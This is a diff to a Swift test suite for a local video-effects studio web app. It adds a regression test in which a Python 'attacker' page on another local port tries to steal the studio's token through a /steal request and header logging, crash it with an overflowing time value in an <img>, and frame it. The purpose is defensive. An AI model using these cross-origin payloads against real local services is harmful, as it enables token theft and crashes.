@@ -169,7 +169,7 @@ import Testing
                 "\(page["command"] ?? "")")
 
         // A reload (or a shared link) keeps the chain: it is in the URL's fragment.
-        let reloaded = try await Self.drive(studio.page + "#chain=" + chain.addingPercentEncoding(withAllowedCharacters: .alphanumerics)!, [
+        let reloaded = try await Self.drive(studio.page + "&chain=" + chain.addingPercentEncoding(withAllowedCharacters: .alphanumerics)!, [
             "document.getElementById('chain-text').value",
             "Array.from(document.querySelectorAll('#chain-list li')).map(li => li.dataset.name)",
         ])
@@ -226,11 +226,13 @@ import Testing
         let studio = try await StudioProcess.start("crowd.mp4")
         defer { Task { await studio.stop() } }
         let waitForRender = """
-            new Promise(r => { const check = () => (studio.state.render && studio.state.render.last && studio.state.render.last.state !== 'running' && studio.state.render.last.state !== 'queued')
-            ? r({last: studio.state.render.last, progress: studio.state.render.progress, link: document.querySelector('#render-result a')?.getAttribute('href') || null})
+            new Promise(r => { const check = () => (studio.state.render && studio.state.render.last && studio.state.render.last.state !== 'running' && studio.state.render.last.state !== 'queued'
+              && (studio.state.render.last.state !== 'done' || document.querySelector('#render-result a')))
+            ? r({last: studio.state.render.last, progress: studio.state.render.progress, link: document.querySelector('#render-result a')?.dataset.source || null,
+                 href: document.querySelector('#render-result a')?.getAttribute('href') || null})
             : setTimeout(check, 50); check(); })
             """
-        let results = try await Self.drive(studio.page + "#chain=sepia", [
+        let results = try await Self.drive(studio.page + "&chain=sepia", [
             Self.set("#render-name", "page.mp4"),
             "(() => { document.getElementById('render').click(); return true; })()",
             waitForRender,
@@ -246,6 +248,8 @@ import Testing
         let progress = (done["progress"] as? [Double]) ?? []
         #expect(progress == progress.sorted() && progress.last == 1 && progress.count >= 2, "\(progress)")
         #expect(done["link"] as? String == "/outputs/page.mp4")
+        // Fetched with the token and shown from a blob: no address carries the token.
+        #expect((done["href"] as? String)?.hasPrefix("blob:") == true, "\(done)")
         let cancelled = try #require((results[7] as? [String: Any])?["last"] as? [String: Any])
         #expect(cancelled["state"] as? String == "failed" && cancelled["error"] as? String == "cancelled", "\(cancelled)")
         #expect(studio.outputFiles == ["page.mp4"], "\(studio.outputFiles)")
@@ -255,7 +259,7 @@ import Testing
     @Test func detectionsOfTheChainAreListedAsTracks() async throws {
         let studio = try await StudioProcess.start("qr-moving.mp4")
         defer { Task { await studio.stop() } }
-        let results = try await Self.drive(studio.page + "#chain=qrbox", [
+        let results = try await Self.drive(studio.page + "&chain=qrbox", [
             "new Promise(r => { const check = () => document.querySelectorAll('#track-list li').length ? "
                 + "r({hidden: document.getElementById('detections').hidden, tracks: Array.from(document.querySelectorAll('#track-list li')).map(li => li.textContent)}) "
                 + ": setTimeout(check, 50); check(); })",
@@ -274,7 +278,7 @@ import Testing
     @Test func aReviewHidesATrackDrawsABoxAndRendersWhatWasExported() async throws {
         let studio = try await StudioProcess.start("crowd.mp4")
         defer { Task { await studio.stop() } }
-        let results = try await Self.drive(studio.page + "#chain=faceblur", [
+        let results = try await Self.drive(studio.page + "&chain=faceblur", [
             // 0: once live, pause; find the faces; the track list fills.
             "new Promise(r => { const check = () => studio.state.ws ? r(true) : setTimeout(check, 20); check(); })"
                 + ".then(() => { document.getElementById('play').click(); document.getElementById('find-faces').click(); "
@@ -341,6 +345,76 @@ import Testing
             frames.append(try Data(contentsOf: URL(fileURLWithPath: raw)))
         }
         #expect(frames[0].count == 780 * 500 * 4 * 60 && frames[0] == frames[1])
+        #expect(await studio.stop() == 0)
+    }
+    /// Issue 65, 1 and 2: after the user has opened the studio, a page of another local
+    /// port (another program's, reached by a link) sees no token in any request it gets
+    /// (it once got the cookie on its own fetch and favicon), cannot crash the studio with
+    /// an `<img>` of a bad time (no token goes with it now), and cannot frame it. The page
+    /// took the token out of its address bar on load.
+    @Test func anotherPortsPageGetsNoTokenAndCannotCrashTheStudio() async throws {
+        let studio = try await StudioProcess.start()
+        defer { Task { await studio.stop() } }
+        let scratch = try ScratchDirectory("vidfx-attacker")
+        let log = scratch.path("requests.jsonl")
+        let studioBase = studio.base
+        let attacker = """
+            import http.server, json, sys
+            log, studio = sys.argv[1], sys.argv[2]
+            page = ('<!doctype html><link rel="icon" href="/favicon.ico"><body><script>'
+                    'const S = %s; const done = (what) => fetch("/done?" + what).then(() => { window.finished = true; });'
+                    'fetch("/steal").then(() => { const i = new Image();'
+                    ' i.onload = () => done("img-loaded"); i.onerror = () => done("img-refused");'
+                    ' i.src = S + "/api/frame?t=9223372036854775806/9223372036854775807"; });'
+                    'fetch(S + "/api/info", {mode: "no-cors", credentials: "include"}).catch(() => 0);'
+                    'const f = document.createElement("iframe"); f.src = S + "/"; document.body.appendChild(f);'
+                    '</script>') % json.dumps(studio)
+            class Handler(http.server.BaseHTTPRequestHandler):
+                def do_GET(self):
+                    with open(log, "a") as f: f.write(json.dumps({"path": self.path, "headers": dict(self.headers)}) + "\\n")
+                    body = page.encode() if self.path == "/" else b"ok"
+                    self.send_response(200); self.send_header("Content-Type", "text/html"); self.send_header("Content-Length", str(len(body)))
+                    self.end_headers(); self.wfile.write(body)
+                def log_message(self, *a): pass
+            server = http.server.HTTPServer(("127.0.0.1", 0), Handler)
+            print(server.server_address[1], flush=True)
+            server.serve_forever()
+            """
+        let process = Process()
+        (process.executableURL, process.arguments) = Subprocess.withoutInheritedDescriptors("/usr/bin/python3", ["-c", attacker, log, studioBase])
+        let out = Pipe()
+        process.standardOutput = out
+        process.standardError = FileHandle.nullDevice
+        let running = try Subprocess.Running(process)
+        defer { running.signal(SIGKILL) }
+        var portText = ""
+        for await chunk in Subprocess.chunks(out.fileHandleForReading) {
+            portText += String(decoding: chunk, as: UTF8.self)
+            if portText.contains("\n") { break }
+        }
+        let attackerBase = "http://127.0.0.1:" + portText.trimmingCharacters(in: .whitespacesAndNewlines)
+        let steps = [
+            "location.href",
+            // The user follows a link to the other port's page, and the page does its worst.
+            "new Promise(r => { setTimeout(() => { location.href = '\(attackerBase)/'; r(true); }, 200); })",
+        ] + Array(repeating: """
+            new Promise(r => { const c = () => (location.origin === '\(attackerBase)' && window.finished) ? r(location.href) : setTimeout(c, 50); c(); })
+            """, count: 4)
+        let results = try await Self.drive(studio.page, steps)
+        let shown = results.first as? String ?? ""
+        #expect(!shown.contains(studio.token) && shown.hasPrefix(studio.base), "the address bar after load: \(shown)")
+        var requests = ""
+        for _ in 0..<1200 where !requests.contains("/done?") {
+            requests = (try? String(contentsOfFile: log, encoding: .utf8)) ?? ""
+            if !requests.contains("/done?") { try await Task.sleep(for: .milliseconds(50)) }
+        }
+        // cdp.py has closed Chromium by now; the page ran while its last step resolved, so
+        // give the log a last read.
+        print("the other port's page was asked for: \(requests.split(separator: "\n").compactMap { line in (try? JSONSerialization.jsonObject(with: Data(line.utf8)) as? [String: Any])?["path"] as? String })")
+        #expect(requests.contains("\"/steal\""), "the attacker's page ran: \(requests)")
+        #expect(requests.contains("/done?img-refused"), "the <img> got no picture: \(requests)")
+        #expect(!requests.contains(studio.token), "no request to the other port carries the token")
+        #expect(try await studio.request("/api/info").status == 200, "the studio is still there")
         #expect(await studio.stop() == 0)
     }
 }
